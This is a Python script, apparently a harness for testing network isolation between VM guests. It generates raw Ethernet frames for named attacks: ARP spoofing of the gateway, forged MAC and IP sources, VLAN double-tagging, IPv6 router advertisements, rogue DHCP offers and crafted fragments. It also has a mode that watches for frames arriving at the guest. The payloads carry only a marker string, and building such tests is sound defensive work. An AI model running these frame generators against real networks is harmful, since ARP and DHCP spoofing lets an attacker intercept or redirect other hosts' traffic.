# SPDX-License-Identifier: Apache-2.0
"""Run inside a guest, as root: what somebody there could send. Each attack is a generator of whole Ethernet frames.

usage: attacks.py list | send NAME VICTIM_IP VICTIM_MAC GATEWAY_IP | watch
"""

import ipaddress
import socket
import struct
import sys
import time

CARD = "eth0"
MARK = b"AGENTISO-ATTACK"
BROADCAST = b"\xff" * 6
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ether(to, source, kind, payload):
    return (to + source + struct.pack("!H", kind) + payload).ljust(60, b"\0")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ipv4(source, to, protocol, payload, options=b"", fragment=0):
    words = 5 + len(options) // 4
    head = struct.pack("!BBHHHBBH4s4s", 0x40 | words, 0, words * 4 + len(payload), 7, fragment, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(to)) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(port, payload=MARK, source=4444):
    return struct.pack("!HHHH", source, port, 8 + len(payload), 0) + payload


def arp(operation, sender_mac, sender_ip, target_mac, target_ip):
    return (struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + sender_mac + socket.inet_aton(sender_ip)
            + target_mac + socket.inet_aton(target_ip))


class Where:
    def __init__(self, victim_ip, victim_mac, gateway_ip):
        self.victim_ip, self.victim_mac, self.gateway_ip = victim_ip, mac(victim_mac), gateway_ip
        self.mac = mac(open(f"/sys/class/net/{CARD}/address").read().strip())
        # The address of the interface that the default route leads out of.
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect((gateway_ip, 9))
            self.ip = probe.getsockname()[0]
        self.gateway_mac = self.ask_gateway()

    def ask_gateway(self):
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as s:
            s.bind((CARD, 0))
            s.settimeout(5)
            s.send(ether(BROADCAST, self.mac, 0x0806, arp(1, self.mac, self.ip, b"\0" * 6, self.gateway_ip)))
            while True:
                frame = s.recv(2048)
                if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\2":
                    return frame[6:12]


@attack
def ip_by_the_gateway(w):
    for port in (9, 53, 8000):
        yield ether(w.gateway_mac, w.mac, 0x0800, ipv4(w.ip, w.victim_ip, 17, udp(port)))
    yield ether(w.gateway_mac, w.mac, 0x0800, ipv4(w.ip, w.victim_ip, 1, b"\x08\0" + struct.pack("!HHH", 0, 1, 1) + MARK))
    yield ether(w.gateway_mac, w.mac, 0x0800, ipv4(w.ip, w.victim_ip, 47, MARK))


@attack
def ip_to_the_card(w):
    yield ether(w.victim_mac, w.mac, 0x0800, ipv4(w.ip, w.victim_ip, 17, udp(9)))


@attack
def arp_request(w):
    yield ether(BROADCAST, w.mac, 0x0806, arp(1, w.mac, w.ip, b"\0" * 6, w.victim_ip))
    yield ether(w.victim_mac, w.mac, 0x0806, arp(1, w.mac, w.ip, b"\0" * 6, w.victim_ip))


@attack
def arp_spoofing_of_the_gateway(w):
    for to in (BROADCAST, w.victim_mac):
        yield ether(to, w.mac, 0x0806, arp(2, w.mac, w.gateway_ip, w.victim_mac, w.victim_ip))
        yield ether(to, w.mac, 0x0806, arp(1, w.mac, w.gateway_ip, b"\0" * 6, w.gateway_ip))
    # At the gateway: the victim's address is ours from now on.
    yield ether(w.gateway_mac, w.mac, 0x0806, arp(2, w.mac, w.victim_ip, w.gateway_mac, w.gateway_ip))
    yield ether(w.gateway_mac, w.mac, 0x0806, arp(1, w.mac, w.victim_ip, b"\0" * 6, w.gateway_ip))


@attack
def ipv6(w):
    local = ipaddress.ip_address("fe80::1").packed
    for to, target in ((w.victim_mac, "fe80::5054:ff:fe63:3"), (b"\x33\x33\0\0\0\1", "ff02::1"), (BROADCAST, "ff02::1")):
        packet = udp(9)
        head = struct.pack("!IHBB", 6 << 28, len(packet), 17, 255) + local + ipaddress.ip_address(target).packed
        yield ether(to, w.mac, 0x86dd, head + packet)
        # A router advertisement would make us its gateway.
        advertisement = b"\x86\0\0\0" + b"\x40\0\x07\x08" + b"\0" * 8
        head = struct.pack("!IHBB", 6 << 28, len(advertisement), 58, 255) + local + ipaddress.ip_address(target).packed
        yield ether(to, w.mac, 0x86dd, head + advertisement)


@attack
def broadcast(w):
    for to in ("255.255.255.255", "10.99.255.255", w.victim_ip):
        yield ether(BROADCAST, w.mac, 0x0800, ipv4(w.ip, to, 17, udp(9)))


@attack
def multicast(w):
    yield ether(bytes.fromhex("01005e0000fb"), w.mac, 0x0800, ipv4(w.ip, "224.0.0.251", 17, udp(5353)))
    yield ether(bytes.fromhex("01005e000001"), w.mac, 0x0800, ipv4(w.ip, "224.0.0.1", 2, b"\x11\0\0\0" + b"\0" * 4))


@attack
def forged_mac(w):
    for source in (w.victim_mac, w.gateway_mac, bytes.fromhex("525400abcdef")):
        yield ether(w.victim_mac, source, 0x0800, ipv4(w.ip, w.victim_ip, 17, udp(9)))
        yield ether(w.gateway_mac, source, 0x0800, ipv4(w.ip, w.victim_ip, 17, udp(9)))
        yield ether(BROADCAST, source, 0x0806, arp(1, source, w.ip, b"\0" * 6, w.victim_ip))


@attack
def forged_ip(w):
    for source in (w.gateway_ip, w.victim_ip, "198.51.100.10", "127.0.0.1", "10.99.0.99"):
        for to in (w.gateway_mac, w.victim_mac):
            yield ether(to, w.mac, 0x0800, ipv4(source, w.victim_ip, 17, udp(9)))


@attack
def vlan_tags(w):
    inner = struct.pack("!H", 0x0800) + ipv4(w.ip, w.victim_ip, 17, udp(9))
    query = struct.pack("!H", 0x0806) + arp(1, w.mac, w.ip, b"\0" * 6, w.victim_ip)
    for kind in (0x8100, 0x88a8):
        for tag in (0, 1, 100, 4095):
            for to in (w.victim_mac, w.gateway_mac, BROADCAST):
                yield ether(to, w.mac, kind, struct.pack("!H", tag) + inner)
                yield ether(to, w.mac, kind, struct.pack("!H", tag) + query)
    yield ether(w.victim_mac, w.mac, 0x88a8, struct.pack("!HHH", 1, 0x8100, 1) + inner)


@attack
def source_routes_and_fragments(w):
    route = b"\x83\x07\x04" + socket.inet_aton(w.victim_ip) + b"\0"
    yield ether(w.gateway_mac, w.mac, 0x0800, ipv4(w.ip, w.gateway_ip, 17, udp(9), options=route))
    datagram = udp(9, MARK * 4)
    for to in (w.gateway_mac, w.victim_mac):
        yield ether(to, w.mac, 0x0800, ipv4(w.ip, w.victim_ip, 17, datagram[:24], fragment=0x2000))
        yield ether(to, w.mac, 0x0800, ipv4(w.ip, w.victim_ip, 17, datagram[24:], fragment=3))


@attack
def link_local_frames(w):
    """Spanning tree, LLDP, EAPOL, pause: what bridges treat in ways of their own."""
    for last in range(16):
        to = bytes.fromhex("0180c20000") + bytes([last])
        for kind in (0x88cc, 0x888e, 0x8808, 0x0027):
            yield ether(to, w.mac, kind, MARK)
    yield ether(w.victim_mac, w.mac, 0x88cc, MARK)
    yield ether(w.victim_mac, w.mac, 0x1234, MARK)


@attack
def dhcp(w):
    ask = b"\1\1\6\0" + b"MARK" + b"\0" * 20 + w.mac + b"\0" * 202 + b"\x63\x82\x53\x63\x35\1\1\xff"
    yield ether(BROADCAST, w.mac, 0x0800, ipv4("0.0.0.0", "255.255.255.255", 17, udp(67, ask, 68)))
    yield ether(BROADCAST, w.mac, 0x0800, ipv4(w.ip, "255.255.255.255", 17, udp(67, ask, 68)))
    offer = b"\2\1\6\0" + ask[4:]
    yield ether(w.victim_mac, w.mac, 0x0800, ipv4(w.gateway_ip, w.victim_ip, 17, udp(68, offer, 67)))


def send(name, *where):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((CARD, 0))
        frames = list(ATTACKS[name](Where(*where)))
        for _ in range(3):
            for frame in frames:
                s.send(frame)
            time.sleep(0.02)
    print(len(frames))


def watch():
    """A line for each frame that comes in."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.bind((CARD, 0))
        print("ready", flush=True)
        while True:
            frame, where = s.recvfrom(65536)
            if where[2] != socket.PACKET_OUTGOING:
                print(frame.hex(), flush=True)


if sys.argv[1] == "list":
    print("\n".join(ATTACKS))
elif sys.argv[1] == "send":
    send(*sys.argv[2:])
else:
    watch()
